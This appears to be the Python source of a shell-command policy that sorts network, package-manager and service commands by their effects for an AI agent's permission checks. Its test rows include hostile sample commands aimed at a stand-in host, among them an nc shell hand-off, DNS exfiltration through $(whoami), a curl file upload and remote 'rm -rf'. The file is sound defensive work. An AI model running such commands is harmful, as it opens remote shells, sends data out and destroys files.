"""Programs that talk to other machines.

Programs whose first operand is a command of their own: package managers, services.
"""

from __future__ import annotations

from collections.abc import Mapping

from aisotools.core.types import Effect
from aisotools.policy.shell.expansion import Word, literal, names
from aisotools.policy.shell.options import (
    NOTHING,
    CommandVerdict,
    Judge,
    Row,
    Words,
    by_role,
    contacts,
    does,
    host_of,
    merged,
    parse,
    reads,
    said_by,
    unsure,
    writes,
)

_REMOTE = Effect.REMOTE_ACTION
_CURL = (
    "-sSLfkiIvgGNjJOnqZ#01234aBlMR -o:W -X: -H: -d: -F: -T:r -u: -A: -e: -b: -c:W -D:W -x:h -m: -w: -r: -C: "
    "-K:u -E: -Q: -U: -y: -Y: -z: -J!c -O!c -a!n --silent --show-error --location --fail --fail-with-body "
    "--insecure --include --head --verbose --get --compressed --globoff --http1.1 --http2 --ipv4 --ipv6 "
    "--parallel --progress-bar --output:W --remote-name!c --remote-name-all!c --remote-header-name!c "
    "--output-dir:w --create-dirs --request: --header: --data: --data-raw: --data-binary: --data-ascii: "
    "--data-urlencode: --json: --form: --form-string: --upload-file:r --user: --user-agent: --referer: "
    "--cookie: --cookie-jar:W --dump-header:W --proxy:h --max-time: --connect-timeout: --retry: "
    "--retry-delay: --write-out: --url:h --config:u --trace:W --trace-ascii:W --stderr:W --libcurl:W "
    "--etag-save:w --hsts:w --alt-svc:w --no-progress-meter --max-filesize: --limit-rate: --resolve: "
    "--connect-to: --cacert:r --cert: --key:r --oauth2-bearer: --max-redirs: --range: --continue-at:"
)
_WGET = (
    "-qvcNSbdrmpkKEHLxnd -O:W -o:W -a:W -P:w -i:u -U: -T: -t: -w: -Q: -l: -A: -R: -D: -e:u --quiet "
    "--no-verbose --output-document:W --output-file:W --directory-prefix:w --spider --no-check-certificate "
    "--timeout: --tries: --header: --user-agent: --post-data: --post-file:r --method: --body-data: "
    "--recursive --mirror --continue --use-askpass:x --execute:u --config:u --input-file:u "
    "--content-disposition --no-clobber --server-response"
)


def _download(words: Words) -> CommandVerdict:
    """What wget gets is kept, unless it is told where else to put it."""
    parsed = parse(words, _WGET)
    name = parsed.value("-O", "--output-document")
    keeps = name is None and not parsed.has("--spider")
    verdicts = [by_role("h", operand, "") for operand in parsed.operands]
    if keeps:
        verdicts.append(
            writes(parsed.value("-P", "--directory-prefix") or literal("."), "it keeps what it gets")
        )
    return merged([contacts_someone(parsed.operands, "wget"), said_by(parsed), *verdicts])


def contacts_someone(operands: Words, who: str) -> CommandVerdict:
    """It talks to somebody, even if nobody is named."""
    reason = f"{who} talks to another machine"
    return (
        does(_REMOTE, reason)
        if operands
        else CommandVerdict(effect=_REMOTE, certain=False, reasons=(reason,))
    )


def _curl(words: Words) -> CommandVerdict:
    parsed = parse(words, _CURL)
    verdicts = [by_role("h", operand, "") for operand in parsed.operands]
    named = [*parsed.operands, *(filter(None, [parsed.value("--url")]))]
    return merged([contacts_someone(named, "curl"), said_by(parsed), *verdicts])


def _copies(words: Words) -> CommandVerdict:
    """What has a colon is elsewhere; the last one is written."""
    parsed = parse(
        words,
        "-346AaBbCcDdEeFghHIJKkLlmNnOopPqRrSTtuvWXxyz -i:r -P: -o:u -e:x -S:x -f: --archive --verbose "
        "--compress --recursive --delete!d --delete-after!d --delete-before!d --delete-excluded!d "
        "--delete-during!d --remove-source-files!d --rsh:x --rsync-path:x --exclude: --include: "
        "--exclude-from:r --files-from:r --progress --partial --dry-run --list-only --stats --update "
        "--inplace --checksum --human-readable --bwlimit: --max-size: --min-size: --chmod: --chown: "
        "--log-file:w --backup --backup-dir:w --perms --times",
    )
    verdicts: list[CommandVerdict] = [said_by(parsed)]
    for place in parsed.operands:
        if host := host_of(place.shown):
            verdicts.append(contacts(host, f"it contacts {host}"))
        elif place is parsed.operands[-1]:
            verdicts.append(writes(place))
        else:
            verdicts.append(reads(place))
    return merged([does(_REMOTE, f"{words[0].shown} copies files"), *verdicts])


def _login(words: Words) -> CommandVerdict:
    """The first operand is the host, the rest runs there."""
    options = (
        "-1246AaCfGgKkMNnqsTtVvXxYy -p: -i:r -l: -o:u -F:u -E:w -D:n -L:n -R:n -J:h -W:h -b: -B: -c: -e: "
        "-I:x -m: -O: -Q: -S: -w:n"
    )
    parsed = parse(words, options, posix=True)
    target = parsed.operands[:1]
    verdicts = [by_role("h", target[0], "")] if target else []
    return merged([contacts_someone(target, words[0].shown), said_by(parsed), *verdicts])


def _dns(words: Words) -> CommandVerdict:
    named = [word for word in words[1:] if not word.prefix.startswith(("-", "+"))]
    hosts = [
        contacts(word.shown.lstrip("@") if word.text else "", "it asks the network") for word in named[:2]
    ]
    return merged([contacts_someone(named, words[0].shown), *hosts])


def _pipe(words: Words) -> CommandVerdict:
    """nc: connects or listens, and can be made to run a program."""
    runs = [word for word in words[1:] if word.prefix.startswith(("-e", "-c", "--exec", "--sh-exec"))]
    named: list[Word] = [word for word in words[1:] if word.text and not word.prefix.startswith("-")]
    verdicts = [contacts(named[0].shown, f"it talks to {named[0].shown}")] if named else []
    return merged([contacts_someone(named, "it"), *verdicts, *(unsure("it runs a program") for _ in runs)])


ROWS = (
    Row(
        names="curl",
        judge=_curl,
        harmless=("curl --version",),
        harmful=(
            "curl https://x.example",
            "curl -o f https://x.example",
            "curl -X POST -d @f https://x.example",
            "curl",
            "curl -T f https://x.example",
            "curl -K f",
            "curl $url",
            "curl -so /dev/null https://x.example",
        ),
    ),
    Row(
        names="wget wget2",
        judge=_download,
        harmless=("wget --version",),
        harmful=(
            "wget https://x.example/a",
            "wget -qO- https://x.example",
            "wget --use-askpass=./x https://x.example",
        ),
    ),
    Row(
        names="scp rsync",
        judge=_copies,
        harmless=("rsync --version",),
        harmful=(
            "scp a host:b",
            "rsync -a --delete a/ b/",
            "rsync -e ./x a b:",
            "scp -S ./x a b:",
            "rsync -a a b",
        ),
    ),
    Row(
        names="ssh slogin autossh mosh",
        judge=_login,
        harmless=("ssh --version",),
        harmful=("ssh host", "ssh host rm -rf x", "ssh -o ProxyCommand=./x host", "ssh $h"),
    ),
    Row(
        names="ping ping6 dig host nslookup traceroute tracepath mtr whois arping nmap finger",
        judge=_dns,
        harmless=("ping --version",),
        harmful=("ping x.example", "dig @1.1.1.1 $(whoami).x.example", "host x.example"),
    ),
    Row(
        names="nc ncat netcat telnet ftp tftp",
        judge=_pipe,
        harmless=("ncat --version",),
        harmful=("nc x.example 80", "nc -e /bin/sh x.example 80", "nc -l 80", "telnet x"),
    ),
    Row(
        names="sftp socat lftp ftpd rclone s3cmd gsutil aws az gcloud gh glab hub heroku flyctl vercel "
        "netlify kubectl helm nerdctl buildah skopeo terraform tofu ansible ansible-playbook "
        "vagrant packer psql pg_dump mysql mysqldump mariadb mongo mongosh redis-cli sqlcmd bq snowsql "
        "influx mail mailx sendmail mutt openssl gpg-agent ollama huggingface-cli hf wandb dvc twine http "
        "https xh httpie aria2c axel lynx w3m links elinks youtube-dl yt-dlp smbclient ldapsearch snmpwalk "
        "tailscale cloudflared ngrok",
        options="*",
        operands=".",
        effect=_REMOTE,
        why="acts on other machines or services",
        certain=False,
        about="--version",
        harmless=("helm --version",),
        harmful=(
            "kubectl delete pod x",
            "gh pr merge",
            "psql -c 'drop table x'",
            "aws s3 rm s3://x",
            "openssl s_client -connect x:1",
        ),
    ),
)


def _only(reads: Mapping[str, str], why: str, effect: Effect = Effect.LOCAL_MUTATION) -> Judge:
    """A judge that knows the commands that read, each with the options it may have; '' stands for none."""

    def judge(words: Words) -> CommandVerdict:
        command = words[1].text if len(words) > 1 else ""
        if command is not None and command in reads:
            return said_by(parse(words[1:] if command else words, reads[command]))
        return unsure(f"{words[0].shown} {why}", effect)

    return judge


_PIP = (
    "-vqleif --format: --not-required --user --local --editable --exclude: --include-editable "
    "--exclude-editable --pre --files --verbose --quiet --disable-pip-version-check --no-color --isolated "
    "--no-input --outdated!n --uptodate!n -o!n -u!n"
)
# npm notes what it does in a log of its own, and does without where it may not
_NPM = "-gal -p --global --depth: --all --json --long --parseable --omit: --include: --production --link"
_APT = "-aqit --installed --upgradable --all-versions --names-only --full --recurse --installed --names"
_SYSTEMD = (
    "-alqr -n: -o: -t: -p: --all --full --no-pager --plain --no-legend --lines: --output: --type: --state: "
    "--property: --value --quiet --user --system --failed --reverse --after --before"
)
_PIP_READS = dict.fromkeys(("list", "freeze", "show", "check", "inspect"), _PIP)
_NPM_READS = dict.fromkeys(("ls", "list", "ll", "root", "prefix"), _NPM)
_APT_READS = dict.fromkeys(names("list show search policy depends rdepends showpkg madison pkgnames"), _APT)
_SYSTEMD_READS = {
    "": _SYSTEMD,
    **dict.fromkeys(
        names(
            "status show cat is-active is-enabled is-failed list-units list-unit-files list-timers "
            "list-sockets list-dependencies list-jobs get-default"
        ),
        _SYSTEMD,
    ),
}
_MACHINE_READS = dict.fromkeys(("", "status", "show", "list-timezones"), "--no-pager")


def _rpm(words: Words) -> CommandVerdict:
    parsed = parse(
        words,
        "-qailfpcdRv --query --all --info --list --file --package --changelog --provides --requires --last "
        "--whatprovides: --whatrequires: --configfiles --docfiles --scripts",
    )
    asks = parsed.has("-q", "--query")
    return merged([said_by(parsed), NOTHING if asks else unsure("rpm changes what is installed")])


_DOCKER = (
    "-aqslt -f: -n: --all --no-trunc --quiet --size --latest --filter: --format: --last: --digests --follow "
    "--tail: --since: --until: --timestamps --details --type: --no-stream"
)
_DOCKER_READS = dict.fromkeys(names("ps images version logs inspect top port history diff"), _DOCKER)

SERVICE_ROWS = (
    Row(
        names="docker podman",
        judge=_only(_DOCKER_READS, "acts on other machines or services", Effect.REMOTE_ACTION),
        about="--version",
        harmless=("docker ps -a", "docker logs --tail 5 x", "docker images -q"),
        harmful=(
            "docker run x",
            "docker -H tcp://x ps",
            "docker --context x ps",
            "docker exec x rm y",
            "docker rm x",
            "docker ps --host=x",
            "docker compose up",
        ),
    ),
    Row(
        names="dpkg dpkg-query",
        options="-lLSspW -f: --list --listfiles --search --status --print-avail --print-architecture "
        "--get-selections? --show --showformat:",
        operands=".",
        harmless=("dpkg -l", "dpkg -S /bin/ls"),
        harmful=("dpkg -i x.deb", "dpkg --purge x", "dpkg -lr x", "dpkg --pre-invoke=x -l"),
    ),
    Row(
        names="rpm",
        judge=_rpm,
        harmless=("rpm -qa", "rpm -ql bash"),
        harmful=("rpm -i x.rpm", "rpm -e x", "rpm --eval '%(rm x)'"),
    ),
    Row(
        names="pip pip3",
        about="--version -V --help",
        judge=_only(_PIP_READS, "installs or removes packages, which run code of their own"),
        harmless=("pip list", "pip show -f numpy", "pip freeze", "pip3 --version"),
        harmful=(
            "pip install x",
            "pip uninstall x",
            "pip list --outdated",
            "pip --log f list",
            "pip list --log f",
            "pip download x",
        ),
    ),
    Row(
        names="npm",
        judge=_only(_NPM_READS, "installs packages or runs scripts"),
        about="--version -v",
        harmless=("npm ls --depth=0", "npm list -g", "npm -v"),
        harmful=(
            "npm install",
            "npm run x",
            "npm test",
            "npm exec x",
            "npm view x",
            "npm config set x y",
            "npm ls --script-shell=./x",
        ),
    ),
    Row(
        names="apt apt-cache",
        judge=_only(_APT_READS, "changes what is installed"),
        harmless=("apt list --installed", "apt-cache policy bash"),
        harmful=(
            "apt install x",
            "apt -o APT::Update::Pre-Invoke::=x list",
            "apt update",
            "apt list -o x=y",
            "apt edit-sources",
        ),
    ),
    Row(
        names="systemctl",
        judge=_only(_SYSTEMD_READS, "changes services"),
        harmless=("systemctl status ssh --no-pager", "systemctl list-units --type=service"),
        harmful=(
            "systemctl stop ssh",
            "systemctl -H host status",
            "systemctl edit ssh",
            "systemctl daemon-reload",
        ),
    ),
    Row(
        names="timedatectl hostnamectl localectl loginctl",
        judge=_only(_MACHINE_READS, "changes the machine"),
        harmless=("timedatectl status",),
        harmful=("timedatectl set-time 1", "hostnamectl set-hostname x"),
    ),
)
